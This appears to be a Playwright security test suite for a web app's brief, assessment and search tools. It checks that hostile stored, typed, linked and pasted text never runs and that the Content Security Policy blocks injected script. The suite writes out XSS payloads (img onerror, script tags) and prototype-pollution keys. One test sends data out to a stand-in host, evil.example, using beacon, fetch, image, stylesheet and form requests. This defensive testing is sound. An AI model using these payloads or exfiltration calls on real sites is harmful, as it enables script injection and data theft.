import { readFile } from 'node:fs/promises';
import { toBriefFile } from '#domain/brief/brief-file.ts';
import { encodeBriefLink } from '#domain/brief/brief-link.ts';
import { allHostile, hostileTexts } from '#domain/text/hostile.fixture.ts';
import { deflateBytes } from '#platform/deflate.ts';
import { hostileAttempts, hostileBriefs, hostileStorage, uuid } from './hostile-storage.ts';
import { builtRoutes, isReadingPage } from './routes.ts';
import { attemptScripts } from './script-attempts.ts';
import { expectQuietPage, watchScripts } from './script-watch.ts';
import { expect, LOCALES, test } from './site.ts';

const fragments = [
  ...hostileBriefs.flatMap(({ id }) => [`/briefs/edit/#${id}`]),
  `/briefs/edit/#compare=${uuid(1)}&with=${uuid(3)}`,
  `/briefs/edit/#${uuid(900)}`,
  ...hostileAttempts.flatMap(({ id }) => [`/assessment/take/#${id}`, `/assessment/result/#${id}`]),
  `/assessment/result/#${uuid(902)}`,
];

for (const [turn, locale] of LOCALES.entries()) {
  test.describe(locale, { tag: '@desk' }, () => {
    test.use({ locale: locale === 'ru' ? 'ru-RU' : 'en-GB' });

    test('what is stored under any key runs nowhere, breaks no page, and stays as it was', async ({ page }) => {
      test.setTimeout(180_000);
      const ran = await watchScripts(page);
      const storage = hostileStorage(turn);
      await page.goto('/404.html');
      await page.evaluate((entries) => {
        for (const [key, text] of Object.entries(entries)) localStorage.setItem(key, text);
      }, storage);
      const tools = (await builtRoutes()).filter(
        (route) => !isReadingPage(route) && route.startsWith('/en/') === (locale === 'en'),
      );
      // Single documents break in one language as in the other.
      for (const route of [...tools, ...(turn === 0 ? fragments : [])]) {
        // The same page with another fragment would not be loaded anew.
        await page.goto('/404.html');
        await page.goto(route);
        await expectQuietPage(page, route);
      }
      expect(ran).toEqual([]);
      const after = await page.evaluate(() => ({ ...localStorage }));
      const texts = new Set(Object.values(after));
      const documents = Object.entries(storage).filter(([key]) => !key.includes(':pref:'));
      expect(documents.filter(([, text]) => !texts.has(text)).map(([key]) => key)).toEqual([]);
    });
  });
}

test.describe('what is typed, linked or asked for', { tag: '@desk' }, () => {
  test('is shown as it is in every field of every tool', async ({ page }) => {
    test.setTimeout(180_000);
    const ran = await watchScripts(page);
    const texts = Object.values(hostileTexts['script'] ?? {}).map((text) => text.replace(/\s/g, ' '));
    for (const route of [
      '/briefs/edit/#new=print&mode=full',
      '/plan/',
      '/assessment/',
      '/assessment/compare/',
      '/search/',
      '/briefs/',
    ]) {
      await page.goto('/404.html');
      await page.goto(route, { waitUntil: 'networkidle' });
      await page.evaluate(() => {
        for (const details of document.querySelectorAll<HTMLDetailsElement>('main details')) details.open = true;
      });
      const fields = page.locator(
        'main :is(input:not([type]), input[type=text], input[type=search], textarea):read-write:visible',
      );
      const count = await fields.count();
      expect(count, route).toBeGreaterThan(0);
      for (let index = 0; index < count; index += 1) {
        const text = (texts[index % texts.length] ?? '').slice(0, 200);
        await fields.nth(index).fill(text);
      }
      await page.keyboard.press('Tab');
      await expectQuietPage(page, route);
    }
    expect(ran).toEqual([]);
  });

  test('in an address does nothing but what that address is for', async ({ page }) => {
    test.setTimeout(180_000);
    const ran = await watchScripts(page);
    const packed = await Promise.all(hostileBriefs.slice(0, 2).map((brief) => encodeBriefLink(brief, deflateBytes)));
    const links = packed.map((link) => (link.ok ? link.value : `b=${link.problem}`));
    const [image = '', ...others] = Object.values(hostileTexts['script'] ?? {}).filter((text) =>
      text.includes('hostile'),
    );
    const values = [image, others[3] ?? '', '__proto__'];
    const addresses = [
      ...links.map((link) => `/briefs/edit/#${link}`),
      ...values.flatMap((value) => [
        `/briefs/edit/#new=${encodeURIComponent(value)}`,
        `/assessment/take/#item=${encodeURIComponent(value)}&mode=${encodeURIComponent(value)}`,
        `/assessment/result/#r=1.${encodeURIComponent(value)}`,
        `/search/?q=${encodeURIComponent(value)}#q=${encodeURIComponent(value)}`,
        `/assessment/#new=${encodeURIComponent(value)}`,
      ]),
      ...[image, '__proto__'].flatMap((value) => [
        `/briefs/edit/#${encodeURIComponent(value)}`,
        `/briefs/edit/#example=${encodeURIComponent(value)}`,
        `/briefs/edit/#compare=${encodeURIComponent(value)}&with=constructor`,
        `/assessment/compare/#example=${encodeURIComponent(value)}`,
        `/briefs/ledger/#example=${encodeURIComponent(value)}`,
        `/guide/why/?${encodeURIComponent(value)}#${encodeURIComponent(value)}`,
        `/plan/?${encodeURIComponent(value)}#${encodeURIComponent(value)}`,
        `/nowhere/${encodeURIComponent(value)}`,
      ]),
    ];
    for (const address of addresses) {
      await page.goto('/404.html');
      await page.goto(address);
      await expectQuietPage(page, address);
    }
    expect(ran).toEqual([]);
    expect(
      await page.evaluate(() => Object.keys(localStorage).filter((key) => /:(brief|respondent|action):/.test(key))),
    ).toEqual([]);
  });

  test('comes out of rich text as plain text', async ({ page }) => {
    const ran = await watchScripts(page);
    await page.goto('/briefs/edit/#new=print&mode=short');
    const goal = page.locator('#f-goal');
    await goal.focus();
    await page.evaluate(() => {
      document.addEventListener(
        'copy',
        (event) => {
          event.preventDefault();
          event.clipboardData?.setData(
            'text/html',
            '<b>rich</b><img src=x onerror=hostile()><script>hostile()</script>',
          );
          event.clipboardData?.setData('text/plain', 'rich <img src=x onerror=hostile()>');
        },
        { once: true },
      );
    });
    await page.keyboard.press('Control+c');
    await page.keyboard.press('Control+v');
    await expect(goal).toHaveValue('rich <img src=x onerror=hostile()>');
    await expectQuietPage(page, 'rich text');
    expect(ran).toEqual([]);
  });
});

/** A page of each template: to read, a tool, the search, the page of lost addresses. */
const TEMPLATES = ['/guide/why/', '/', '/briefs/edit/', '/assessment/compare/', '/search/', '/404.html'];

test.describe('a script that got into a page', { tag: '@desk' }, () => {
  for (const route of TEMPLATES) {
    test(`does not run on ${route}`, async ({ browser, baseURL }) => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const elsewhere: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes('evil.example')) elsewhere.push(request.url());
      });
      // Announced, and stopped by the policy before it went out.
      page.on('requestfailed', (request) => {
        if (request.failure()?.errorText === 'csp') elsewhere.splice(elsewhere.indexOf(request.url()), 1);
      });
      await page.goto(`${baseURL}${route}`, { waitUntil: 'networkidle' });
      const attempts = await page.evaluate(attemptScripts);
      expect(attempts.filter(({ ran }) => ran)).toEqual([]);
      expect(attempts.length).toBeGreaterThan(30);
      await page.evaluate(async () => {
        const address = 'http://evil.example/';
        new Image().src = `${address}picture`;
        navigator.sendBeacon(`${address}beacon`, 'x');
        await fetch(`${address}fetch`).catch(() => {});
        const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${address}style` });
        const form = Object.assign(document.createElement('form'), { action: `${address}form`, method: 'post' });
        document.body.append(sheet, form);
        form.submit();
      });
      await page.waitForTimeout(200);
      expect(elsewhere).toEqual([]);
      expect(page.url()).toBe(`${baseURL}${route}`);
      const wasm = await page.evaluate(() =>
        WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(
          () => true,
          () => false,
        ),
      );
      expect(wasm).toBe(route === '/search/');
      await context.close();
    });
  }

  test('would run without the policy: the attempts are real ones', async ({ browser, baseURL }) => {
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    await page.goto(`${baseURL}/404.html`);
    const attempts = await page.evaluate(attemptScripts);
    expect(attempts.filter(({ ran }) => !ran)).toEqual([]);
    await context.close();
  });
});

test('every page has the narrowest policy that it can live with, and nothing that needs a wider one', {
  tag: '@desk',
}, async () => {
  for (const route of await builtRoutes()) {
    const html = await readFile(`dist${route.endsWith('/') ? `${route}index.html` : route}`, 'utf8');
    const [, policy = ''] =
      /<head>\s*<meta charset="utf-8"\s*\/?><meta http-equiv="content-security-policy" content="([^"]*)">/i.exec(
        html,
      ) ?? [];
    const directive = (name: string) => policy.split('; ').find((part) => part.startsWith(`${name} `)) ?? '';
    expect(directive('default-src'), route).toBe("default-src 'none'");
    expect(policy, route).not.toMatch(/unsafe-inline|unsafe-hashes|'unsafe-eval'|strict-dynamic|https?:|\*/);
    expect(directive('script-src').includes("'wasm-unsafe-eval'"), route).toBe(/\/search\/$/.test(route));
    if (isReadingPage(route)) expect(directive('script-src'), route).not.toContain("'self'");
    const markup = html.replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/g, '');
    expect(markup.match(/<[^>]*\s(?:on[a-z]+|style|srcdoc)=[^>]*>/gi), route).toBeNull();
    expect(
      markup.match(/(?:javascript|vbscript|data:text)[^"'\s]*:/gi)?.filter((text) => !text.startsWith('JavaScript')) ??
        [],
      route,
    ).toEqual([]);
    expect(markup.match(/<(?:iframe|object|embed|base|form[^>]*action)\b/gi), route).toBeNull();
  }
});

test('the corpus names what would run', { tag: '@desk' }, () => {
  expect(allHostile.filter((text) => text.includes('hostile()')).length).toBeGreaterThan(25);
  expect(JSON.stringify(toBriefFile(hostileBriefs[0] as never))).toContain('hostile()');
});
